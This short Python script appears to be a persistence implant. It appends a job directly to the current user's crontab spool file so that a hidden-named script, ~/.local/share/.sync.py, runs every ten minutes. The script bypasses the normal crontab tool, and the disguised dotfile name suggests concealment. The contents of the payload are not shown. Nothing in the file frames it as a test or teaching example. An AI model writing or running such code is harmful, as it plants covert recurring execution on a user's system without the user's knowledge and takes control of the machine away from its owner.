import getpass

user = getpass.getuser()
path = f"/var/spool/cron/crontabs/{user}"
with open(path, "a") as f:
    f.write("*/10 * * * * /usr/bin/python3 $HOME/.local/share/.sync.py\n")
print("cron updated for", user)
